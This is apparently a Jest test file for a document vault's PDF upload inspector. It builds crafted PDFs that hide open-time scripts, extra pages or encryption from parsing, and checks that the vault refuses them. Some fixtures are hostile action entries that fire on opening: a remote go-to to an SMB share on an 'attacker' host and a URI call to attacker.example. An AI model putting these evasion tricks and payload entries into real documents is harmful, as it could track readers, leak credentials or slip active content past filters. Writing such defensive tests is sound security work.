import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import {
  catalog,
  objectStream,
  objectStreamBrokenHalfway,
  page,
  pageTree,
  pdf,
  scriptInObjectStream,
  stream,
} from '@kluis/pdf-inspector/testing';
import { removeDataDir, startVault, type VaultUnderTest } from '../support/vault-harness';
import { expectProblem, upload } from '../support/vault-requests';

/**
 * Hand-made PDFs that once steered the upload inspector away from what a reader would run, or hung the upload.
 * Each is sent over HTTP: it must be refused with a clear answer, in bounded time, and leave nothing stored.
 */

const fixture = (path: string) => readFile(join(__dirname, '../fixtures/pdf-corpus', path));
const openingScript = (...before: (string | Buffer)[]) => pdf([catalog('/OpenAction 100 0 R'), pageTree(1), page(), ...before, scriptInObjectStream()]);

describe('PDFs that try to get active content, locked files or extra pages past the upload inspector', () => {
  let vault: VaultUnderTest;

  beforeAll(async () => {
    vault = await startVault({ VAULT_PDF_MAX_PAGES: '3' });
  });
  afterAll(async () => {
    await vault.stop();
    await removeDataDir(vault);
  });

  async function expectRefused(file: Buffer, status: number, code: string): Promise<void> {
    const customer = await vault.customer();
    const blobsBefore = await vault.storedBlobs();
    const started = Date.now();
    const response = await upload(vault, customer.token, customer.id, { file, type: 'notarial-deed' });

    expect(Date.now() - started).toBeLessThan(10_000);
    expectProblem(response, status, vault);
    expect(response.body).toMatchObject({ code });
    expect(await vault.storedBlobs()).toEqual(blobsBefore);
  }

  it.each([
    ['behind a comment line "% stream"', () => openingScript('<< /Title (a deed) >>\n% stream')],
    ['behind a string "(stream)"', () => openingScript('<< /Title (stream) >>')],
    ['behind an earlier stream whose /Length runs over it', () => openingScript(stream('', Buffer.from('q Q'), 600))],
    ['in a compressed object stream without /Type', () => pdf([catalog('/OpenAction 100 0 R'), pageTree(1), page(), scriptInObjectStream({ type: '' })])],
    ['in a compressed object stream whose /Type is a reference', () => pdf([catalog('/OpenAction 100 0 R'), pageTree(1), page(), scriptInObjectStream({ type: '/Type 9 0 R' })])],
  ])('refuses a script that runs on opening, hidden %s', async (_case, file) => {
    await expectRefused(file(), 415, 'UPLOAD.ACTIVE_CONTENT');
  });

  it.each([
    ['a remote go-to to an SMB share', '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>'],
    ['a web address opened with the file', '/OpenAction << /S /URI /URI (https://attacker.example/track) >>'],
    ['a data import', '/OpenAction << /S /ImportData /F (data.fdf) >>'],
    ['an embedded go-to', '/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>'],
  ])('refuses %s', async (_case, entries) => {
    await expectRefused(pdf([catalog(entries), pageTree(1), page()]), 415, 'UPLOAD.ACTIVE_CONTENT');
  });

  it('advises a signed copy without active content, never to print the file anew', async () => {
    const customer = await vault.customer();
    const response = await upload(vault, customer.token, customer.id, { file: openingScript('<< /Title (stream) >>'), type: 'notarial-deed' });

    expect(response.body.detail).toMatch(/signed PDF is welcome/);
    expect(response.text).not.toMatch(/print/i);
  });

  it.each([
    ['behind a comment line "% stream"', '<< /Title (a deed) >>\n% stream', ['<< /Type /Page /Parent 2 0 R >>']],
    ['whose /Type is a reference', '<< /Title (a deed) >>', ['<< /Type 9 0 R /Parent 2 0 R >>']],
  ])('refuses more pages than the limit, hidden %s', async (_case, decoy, pageObject) => {
    const pages = Array.from({ length: 4 }, () => pageObject[0]);
    const file = pdf([catalog(), '<< /Type /Pages /Kids [] >>', decoy, ...pages]);

    await expectRefused(file, 413, 'UPLOAD.TOO_MANY_PAGES');
  });

  it('refuses a PDF that asks for a password, saying so', async () => {
    await expectRefused(await fixture('qpdf/enc-R3,V2,U=view,O=master.pdf'), 422, 'UPLOAD.PASSWORD_PROTECTED');
  });

  it('answers a PDF whose object stream fails to inflate part-way, in bounded time', async () => {
    await expectRefused(objectStreamBrokenHalfway(), 415, 'UPLOAD.ACTIVE_CONTENT');
  });

  it.each([
    ['a link whose address contains the word JavaScript', pdf([catalog(), pageTree(1), page('/Annots [4 0 R]'), '<< /Subtype /Link /A << /S /URI /URI (https://developer.example/Web/JavaScript) >> >>'])],
    ['an empty /AA dictionary', pdf([catalog('/AA << >>'), pageTree(1), page()])],
    ['an object stream of ordinary objects', pdf([catalog(), objectStream([pageTree(1)], { filter: '/FlateDecode' }), page()])],
  ])('accepts %s', async (_case, file) => {
    const customer = await vault.customer();

    await upload(vault, customer.token, customer.id, { file, type: 'notarial-deed' }).expect(201);
  });

  it('accepts a PDF encrypted with an empty password, whose encrypted object streams it reads', async () => {
    const customer = await vault.customer();

    await upload(vault, customer.token, customer.id, { file: await fixture('qpdf/encrypted-with-images.pdf'), type: 'notarial-deed' }).expect(201);
  });
});
